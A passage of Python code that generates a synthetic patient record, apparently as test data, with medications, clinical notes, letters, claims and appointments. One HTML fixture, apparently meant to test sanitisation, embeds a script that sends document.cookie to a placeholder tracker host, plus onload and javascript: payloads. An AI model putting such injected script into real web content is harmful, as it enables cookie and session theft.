                {"resourceType": "Medication", "id": "inside", "code": {"text": "nitrofurantoin 100 mg capsule"}}
            ],
            medicationCodeableConcept=None,
            medicationReference={"reference": "#inside", "display": "nitrofurantoin 100 mg capsule"},
        )
        self._yearly("simvastatin-20", ONE_EVENING, 2006, 2012, "chen", "cholesterol", 90)
        order(
            life,
            "simvastatin-20",
            ONE_EVENING,
            date(2013, 10, 14),
            "chen",
            status="stopped",
            reason=known["cholesterol"],
            amount=90,
            supply=90,
            refills=3,
            statusReason={"text": "Changed to atorvastatin"},
            updated=date(2014, 6, 17),
        )
        order(
            life,
            "hydrochlorothiazide-25",
            ONE_DAILY,
            date(2014, 10, 14),
            "chen",
            status="stopped",
            reason=known["pressure"],
            amount=90,
            supply=90,
            refills=3,
            statusReason={"text": "Low sodium"},
            updated=date(2015, 4, 8),
        )

    def _not_to_be_taken(self) -> None:
        life = self.life
        order(
            life,
            "ibuprofen-200",
            Dose("Do not take ibuprofen or similar pain medicines: kidney disease"),
            date(2021, 10, 19),
            "chen",
            reason=self.conditions["kidney"],
            doNotPerform=True,
        )
        order(
            life,
            "warfarin-5",
            ONE_EVENING,
            date(2020, 7, 30),
            "adeyemi",
            status="entered-in-error",
            note=[{"text": "Ordered in the wrong record."}],
        )

    def _without_prescription(self) -> None:
        life = self.life
        medicines.stated(life, "Vitamin D3 1,000 units", "One capsule a day", "2018-11-20")
        medicines.stated(
            life,
            "aspirin-81",
            "One tablet a day",
            "2012-03",
            status="stopped",
            effectivePeriod={"start": on("2012-03"), "end": on("2020-08")},
        )
        medicines.stated(life, "Ginkgo, from the health shop", "Now and then", "2023", status="not-taken")

    # --- documents

    def papers(self) -> None:
        life = self.life
        for year in range(2018, 2026):
            visit = self.visits[f"wellness {year}"]
            when = clock(date(year, 10, 14), 9, 30)
            papers.note(
                life,
                visit,
                when,
                "chen",
                [
                    f"Mina is {int(life.age(when.date()))} and feels well. She walks most days and cooks for herself.",
                    "Diabetes, blood pressure and cholesterol were gone over. Blood tests from last week were discussed.",
                    "Plan: same medicines, foot check done, eye visit in August, see her again in spring.",
                ],
            )
        for year in (2021, 2023, 2024, 2025):
            visit = self.visits[f"heart {year}"]
            papers.note(
                life,
                visit,
                clock(date(year, 6, 17), 14, 20),
                "ruiz",
                [
                    "No chest pain, no breathlessness on one flight of stairs, no swelling of the legs.",
                    "Blood pressure at home runs about 130 over 75. Cholesterol is at goal on atorvastatin.",
                ],
                apart=True,
            )
        self._letters()
        self._provenance()

    def _letters(self) -> None:
        life = self.life
        discharge = [
            "# Harbor General Hospital",
            "# Discharge summary",
            "",
            "Patient: Mina Satterfield",
            f"Admitted: {said('2024-02-11')}",
            f"Went home: {said('2024-02-15')}",
            "",
            "Reason: pneumonia of the right lung",
            "",
            "Course: Fever and cough for three days. Antibiotic into the vein for four",
            "days. Oxygen for two days. No complications.",
            "",
            "Medicines at home: as before. Metformin was paused and started again",
            "on the day she went home.",
            "",
            "See Dr. Chen within two weeks. Chest X-ray in five weeks.",
            "",
            "Dr. Tunde Adeyemi",
        ]
        papers.document(
            life,
            "discharge",
            clock("2024-02-15", 12),
            "Discharge summary: pneumonia",
            "adeyemi",
            {"$pdf": discharge},
            "application/pdf",
            apart=True,
            encounter=self.pneumonia_stay,
        )
        papers.document(
            life,
            "operation",
            clock("2019-04-02", 11),
            "Operation note: left knee replacement",
            "prieto",
            {
                "$text": "Left total knee replacement.\n\nSpinal anesthesia. Cemented prosthesis, size 4. Blood loss 200 mL.\n"
                "No complications.\n\nDr. Luis Prieto\n"
            },
            "text/plain",
            encounter=self.knee_visit,
        )
        papers.document(
            life,
            "directive",
            clock("2020-02-11", 10),
            "Advance directive",
            "chen",
            {
                "$pdf": [
                    "# Advance health care directive",
                    "",
                    "I, Mina Satterfield, name my daughter Ana Satterfield",
                    "to decide for me when I cannot.",
                    "",
                    f"Signed {said('2020-02-11')}",
                ]
            },
            "application/pdf",
            apart=True,
        )
        # A hospital system's HTML with what a safe reader must leave out.
        papers.document(
            life,
            "instructions",
            clock("2024-02-15", 12, 10),
            "Going home after pneumonia",
            "adeyemi",
            {
                "$html": "<html><head><style>body{background:url(http://tracker.example.org/a.png)}</style>"
                '<script>fetch("http://tracker.example.org/?"+document.cookie)</script></head>'
                '<body onload="alert(1)"><h1>Going home after pneumonia</h1>'
                '<img src="http://tracker.example.org/pixel.gif" width="1" height="1" alt="">'
                "<ul><li>Rest, and drink enough.</li><li>Walk a little more <b>every day</b>.</li>"
                '<li>Call <a href="javascript:alert(2)">us</a> at (415) 555-0120 if the fever comes back.</li></ul>'
                "<table><tr><th>Day</th><th>Walk</th></tr><tr><td>1</td><td>5 minutes</td></tr>"
                "<tr><td>7</td><td>20 minutes</td></tr></table></body></html>"
            },
            "text/html",
            apart=True,
            encounter=self.pneumonia_stay,
        )
        picture = papers.picture(
            96,
            96,
            lambda x, y: 215 - ((x - 48) ** 2 + (y - 48) ** 2) / 14 if (x - 48) ** 2 + (y - 48) ** 2 < 2000 else 12,
        )
        papers.document(
            life,
            "imaging",
            clock("2025-08-06", 13, 10),
            "Retina photograph, right eye",
            "solberg",
            picture,
            "image/png",
            apart=True,
        )
        papers.document(
            life,
            "summary",
            clock("2025-10-14", 18),
            "Summary of care",
            "chen",
            {
                "$html": "<h1>Summary of care</h1><h2>Conditions</h2><ul><li>Type 2 diabetes</li><li>High blood pressure</li>"
                "<li>High cholesterol</li><li>Underactive thyroid</li><li>Kidney disease, stage 3a</li></ul>"
                f"<p>Printed {said('2025-10-14')} for Mina Satterfield.</p>"
            },
            "text/html",
        )
        papers.document(
            life,
            "progress",
            clock("2015-04-21", 10),
            "Progress note (withdrawn)",
            "fields",
            {"$text": "This note was written into the wrong record.\n"},
            "text/plain",
            status="entered-in-error",
        )

    def _provenance(self) -> None:
        life = self.life
        papers.origin(life, self.penicillin, "chen", clock("2012-03-01", 9))
        for name in ("diabetes", "kidney", "bone"):
            papers.origin(life, self.conditions[name], "chen", clock("2021-10-19", 10))
        for name, who in (("lisinopril", "chen"), ("atorvastatin", "ruiz"), ("metformin", "okoye")):
            papers.origin(life, self.orders[name], who, clock("2025-12-09", 11))

    # --- money

    def money(self) -> None:
        life = self.life
        plan = money.coverage(life, "bay-senior-plan", "Bay Senior Advantage", "BSA00471101", "2015-01-01")
        owed = money.account(life, plan)
        for year in (2023, 2024, 2025):
            money.claim(life, plan, date(year, 10, 14), "Yearly wellness visit", 260, 174, 0)
            money.claim(
                life,
                plan,
                date(year, 6, 17),
                "Heart specialist visit",
                310,
                186,
                45,
                diagnosis=self.conditions["pressure"],
            )
            money.claim(life, plan, date(year, 10, 9), "Laboratory tests", 412, 96, 12, provider="bay-lab")
            money.claim(life, plan, date(year, 8, 6), "Eye examination", 195, 128, 45, provider="eye-center")
        money.claim(
            life,
            plan,
            date(2024, 2, 15),
            "Hospital stay of four days",
            31_840,
            12_600,
            375,
            kind="institutional",
            provider="harbor-hospital",
            diagnosis=self.conditions["Pneumonia 2024"],
        )
        for day in every(date(2025, 6, 18), date(2025, 12, 5), 28):
            money.claim(
                life,
                plan,
                day,
                "atorvastatin",
                24,
                11,
                4,
                kind="pharmacy",
                provider="quay-pharmacy",
                drug="atorvastatin-20",
            )
        money.claim(
            life,
            plan,
            date(2025, 12, 16),
            "amlodipine",
            19,
            9,
            3,
            kind="pharmacy",
            provider="quay-pharmacy",
            drug="amlodipine-10",
        )
        money.claim(life, plan, date(2025, 3, 3), "Office visit", 180, 120, 25, status="cancelled")
        money.asked_ahead(
            life, plan, date(2025, 12, 1), "Bone density scan", answer="Approved: one scan within six months"
        )
        money.bill(life, owed, date(2025, 7, 8), "471100250617", "Heart specialist visit", 45, paid=date(2025, 7, 21))
        money.bill(life, owed, date(2025, 9, 2), "471100250806", "Eye examination", 45, paid=date(2025, 9, 12))
        money.bill(life, owed, date(2025, 12, 10), "471100251116", "Laboratory tests", 12)
        money.bill(life, owed, date(2025, 12, 22), "471100251216", "Heart specialist visit", 45)

    # --- what lies ahead, and the people

    def ahead(self) -> None:
        self._calendar()
        self._messages()
        life, known = self.life, self.conditions
        sugar = ahead.goal(life, "Hemoglobin A1c below 7", "2023-05-09")
        walk = ahead.goal(life, "Walk 30 minutes on five days a week", "2024-04-08", due="2026-04-08")
        ahead.goal(life, "Lose 10 pounds", "2015-04-08", status="completed")
        ahead.care_plan(
            life,
            "735985000",
            "Diabetes self management plan (record artifact)",
            "Living with diabetes",
            [
                "Check blood sugar on three mornings a week",
                "Look at your feet every evening",
                "Eye examination every year",
                "Blood tests in spring and fall",
            ],
            [sugar, walk],
            "2023-05-09",
        )
        ahead.care_team(
            life,
            [
                ("chen", "453231000124104", "Primary care provider"),
                ("ruiz", "17561000", "Cardiologist"),
                ("okoye", "61894003", "Endocrinologist"),
                ("solberg", "422234006", "Ophthalmologist"),
                ("kim", "46255001", "Pharmacist"),
            ],
            "2019-01-21",
            {
                "role": [concept(SNOMED, "133932002", "Caregiver (person)", "Daughter, caregiver")],
                "member": ref(self.daughter, "Ana Satterfield"),
            },
        )
        ahead.referral(
            life, clock("2025-10-14", 10), "chen", "solberg", "Yearly diabetic eye examination", known["diabetes"]
        )
        ahead.lab_order(life, clock("2025-10-01", 9), "chen", "Blood tests before the wellness visit")
        ahead.lab_order(life, clock("2025-12-09", 11), "okoye", "Hemoglobin A1c and basic metabolic panel", "active")
        ahead.refill_task(life, self.orders["lisinopril"], clock("2025-12-20", 9), "completed", "Ready for pick-up.")
        ahead.refill_task(
            life, self.orders["levothyroxine"], clock("2025-10-20", 19), "completed", "Sent by mail, five days."
        )
        ahead.device(life, "6012004", "Hearing aid, both ears", "2020-11-05")
        ahead.device(life, None, "Lens in the right eye", "2022-02-15")
        life.add(
            "Consent",
            status="active",
            scope=hl7("consentscope", "patient-privacy", "Privacy Consent"),
            category=[concept(LOINC, "59284-0", "Consent Document", "Access for a caregiver")],
            patient=life.subject,
            dateTime=at(clock("2020-02-11", 10)),
            organization=[life.place.organization("harbor-clinic")],
            policyRule={"text": "Harbor Clinic proxy access"},
            provision={
                "type": "permit",
                "actor": [
                    {"role": hl7("v3-RoleCode", "DAUC", "Daughter"), "reference": ref(self.daughter, "Ana Satterfield")}
                ],
            },
        )

    def _calendar(self) -> None:
        life = self.life
        past = (
            ("2025-03-25", 8, "chen", "Blood test"),
            ("2025-04-08", 10, "chen", "Diabetes and blood pressure"),
            ("2025-06-17", 14, "ruiz", "Blood pressure and cholesterol"),
            ("2025-08-06", 13, "solberg", "Eye examination"),
            ("2025-10-14", 9, "chen", "Yearly wellness visit"),
        )
        for day, hour, clinician, why in past:
            where = "eye-mast" if clinician == "solberg" else "quay-12"
            ahead.appointment(life, clock(day, hour), clinician, why, status="fulfilled", place_of=where)
        ahead.appointment(life, clock("2025-11-20", 15), "lindgren", "Balance training", status="noshow")
        ahead.appointment(
            life,
            clock("2026-01-08", 9),
            "okoye",
            "Thyroid and diabetes",
            status="cancelled",
            cancelled="Doctor away; moved to the video visit",
            updated=clock("2025-12-18", 12),
        )
        ahead.appointment(
            life,
            clock("2026-01-06", 10, 20),
            "ruiz",
            "Blood pressure after the change of medicine",
            minutes=30,
            prepare="Bring your blood pressure notes of the last two weeks and all your medicine bottles.",
        )
        ahead.appointment(
            life,
            clock("2026-01-08", 8, 10),
            "chen",
            "Blood test: kidney function",
            place_of="lab-dockside",
            minutes=10,
            prepare="Nothing to eat after midnight. Water is fine. Take your thyroid tablet as usual.",
        )
        ahead.appointment(
            life,
            clock("2026-01-10", 10),
            "fields",
            "Blood pressure check by the nurse",
            place_of="walk-in-wharf",
            minutes=15,
        )
        ahead.appointment(
            life,
            clock("2026-01-13", 10, 20),
            "ruiz",
            "Heart specialist, follow-up",
            minutes=30,
            prepare="Bring your blood pressure notes.",
        )
        ahead.appointment(
            life,
            clock("2026-01-21", 11),
            "okoye",
            "Thyroid and diabetes",
            video="https://video.harbor-clinic.example.org/room/mina-0121",
            prepare="Have your glucose meter beside you.",
        )
        ahead.appointment(
            life, clock("2026-02-10", 9), "chen", "Bone density scan", place_of="hospital-main", minutes=40
        )
        ahead.appointment(life, clock("2026-04-07", 10), "chen", "Diabetes and blood pressure", status="proposed")

    def _messages(self) -> None:
        life = self.life
        first = ahead.message(
            life,
            clock("2025-12-16", 17, 30),
            "ruiz",
            topic="Amlodipine 10 mg",
            from_person=True,
            text="I still have amlodipine 5 mg tablets. Do I take them together with the new ones?",
        )
        ahead.message(
            life,
            clock("2025-12-17", 9, 5),
            "ruiz",
            topic="Amlodipine 10 mg",
            from_person=False,
            answers=first,
            text="No. Only the 10 mg tablet, once a day. Put the old ones away. We look at your blood pressure together "
            f"on {said('2026-01-06')}.",
        )
        ahead.message(
            life,
            clock("2025-12-17", 18),
            "ruiz",
            topic="Amlodipine 10 mg",
            from_person=True,
            answers=first,
            text="Thank you, that is clear.",
        )
        ahead.message(
            life,
            clock("2025-12-22", 8),
            "chen",
            topic="Blood test before your visit",
            from_person=False,
            text="Please come to the laboratory fasting. The order is there, you need no paper.",
        )
        asked = ahead.message(
            life,
            clock("2025-11-11", 16),
            "chen",
            topic="Potassium result",
            from_person=False,
            text="The high potassium from yesterday was the sample's fault. Today's value is normal: 4.6. Nothing to change.",
        )
        ahead.message(
            life,
            clock("2025-11-11", 19),
            "chen",
            topic="Potassium result",
            from_person=True,
            answers=asked,
            text="I am relieved. Thank you for calling so soon.",
        )
